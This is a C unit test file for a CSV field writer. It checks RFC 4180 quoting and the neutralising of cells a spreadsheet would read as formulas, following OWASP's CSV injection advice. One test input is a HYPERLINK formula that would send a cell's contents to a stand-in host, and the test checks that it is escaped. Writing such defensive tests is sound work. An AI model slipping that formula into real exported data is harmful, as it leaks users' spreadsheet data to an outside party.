/* SPDX-License-Identifier: Apache-2.0 */
/* CSV fields as RFC 4180 reads them: plain text as it is; a comma, semicolon, quote, tab,
 * CR or LF quoted with its quotes doubled; NULL an empty field; a field a spreadsheet would
 * take for a formula quoted behind a single quote (OWASP's CSV injection advice). */
#include "test.h"
#include "util/csv.h"

static const char *field(gp_buf *b, const char *s) {
  gp_buf_reset(b);
  gp_csv_field(b, s);
  return b->data ? b->data : "";
}

static void csv_quotes_only_what_needs_it(void) {
  gp_buf b;
  gp_buf_init(&b, 0);
  CHECK_EQ_STR("org/a", field(&b, "org/a"));
  CHECK_EQ_STR("", field(&b, ""));
  CHECK_EQ_STR("", field(&b, NULL));
  CHECK_EQ_STR("\"smith, jr\"", field(&b, "smith, jr"));
  CHECK_EQ_STR("\"say \"\"hi\"\"\"", field(&b, "say \"hi\""));
  CHECK_EQ_STR("\"\"\"\"", field(&b, "\""));
  CHECK_EQ_STR("\"two\nlines\"", field(&b, "two\nlines"));
  CHECK_EQ_STR("\"cr\rhere\"", field(&b, "cr\rhere"));
  CHECK_EQ_STR("it's fine", field(&b, "it's fine"));
  /* A semicolon separates cells in some locales: quoted, it cannot start one. */
  CHECK_EQ_STR("\"a;=1+2\"", field(&b, "a;=1+2"));
  CHECK_EQ_STR("\"a\tb\"", field(&b, "a\tb"));
  gp_buf_done(&b);
}

/* = + - @ tab CR (and the full-width = + - @) first: a formula to a spreadsheet, written as
 * the text it is behind a single quote, quoted; the same characters later are plain. */
static void csv_neutralises_formulas(void) {
  gp_buf b;
  gp_buf_init(&b, 0);
  CHECK_EQ_STR("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"hi\"\")\"",
               field(&b, "=HYPERLINK(\"http://x/?\"&A1,\"hi\")"));
  CHECK_EQ_STR("\"'+1\"", field(&b, "+1"));
  CHECK_EQ_STR("\"'-2+3\"", field(&b, "-2+3"));
  CHECK_EQ_STR("\"'@SUM(A1:A9)\"", field(&b, "@SUM(A1:A9)"));
  CHECK_EQ_STR("\"'\t=1\"", field(&b, "\t=1"));
  CHECK_EQ_STR("\"'\r=1\"", field(&b, "\r=1"));
  CHECK_EQ_STR("\"'\xef\xbc\x9d" "1+1\"", field(&b, "\xef\xbc\x9d" "1+1"));   /* U+FF1D */
  CHECK_EQ_STR("\"'\xef\xbc\xa0x\"", field(&b, "\xef\xbc\xa0" "x"));       /* U+FF20 */
  CHECK_EQ_STR("a=1", field(&b, "a=1"));
  CHECK_EQ_STR("node-1", field(&b, "node-1"));
  CHECK(gp_csv_is_formula("=1"));
  CHECK(!gp_csv_is_formula("x=1"));
  CHECK(!gp_csv_is_formula(""));
  CHECK(!gp_csv_is_formula(NULL));
  gp_buf_done(&b);
}

GP_TESTS(csv_quotes_only_what_needs_it, csv_neutralises_formulas)
